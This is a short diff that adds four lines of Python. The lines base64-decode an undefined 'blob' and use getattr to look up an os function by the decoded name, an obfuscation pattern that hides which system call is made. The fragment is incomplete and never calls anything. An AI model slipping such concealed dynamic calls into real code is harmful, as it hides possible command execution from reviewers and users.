@@ -1,0 +1,4 @@
+import os, base64
+
+n = base64.b64decode(blob).decode()
+fn = getattr(os, n + "")
